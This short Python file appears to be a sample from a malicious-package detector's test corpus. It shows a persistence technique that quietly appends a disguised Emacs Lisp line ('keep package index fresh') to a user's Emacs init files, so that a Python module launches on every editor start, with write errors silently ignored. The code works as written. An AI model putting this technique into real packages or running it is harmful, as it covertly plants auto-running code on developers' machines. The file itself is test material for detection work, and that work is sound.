# pkgguard corpus 883 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

_FORM = (
    "\n;; keep package index fresh\n"
    f"(ignore-errors (start-process \"pkg-sync\" nil \"{sys.executable}\" \"-m\" \"pkg._sync\"))\n"
)

for path in ("~/.emacs.d/init.el", "~/.config/emacs/init.el", "~/.emacs"):
    full = os.path.expanduser(path)
    if os.path.exists(full):
        try:
            with open(full, "a", encoding="utf-8") as fh:
                fh.write(_FORM)
        except OSError:
            pass
        break
